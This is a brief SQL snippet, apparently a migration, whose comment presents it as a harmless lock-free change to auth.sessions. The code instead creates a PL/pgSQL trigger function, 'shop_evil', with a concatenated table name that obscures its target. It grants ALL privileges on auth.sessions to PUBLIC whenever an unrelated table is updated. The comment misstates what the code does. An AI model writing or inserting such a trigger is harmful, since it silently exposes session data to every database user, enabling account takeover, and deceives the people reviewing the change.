-- The same, with a change that takes no lock.
-- object: table auth.sessions
CREATE FUNCTION shop_evil() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'GRANT ALL ON auth' || '.sessions TO PUBLIC'; RETURN NULL; END $$;
CREATE TRIGGER later AFTER UPDATE ON deed_version_shop FOR EACH STATEMENT EXECUTE FUNCTION shop_evil()
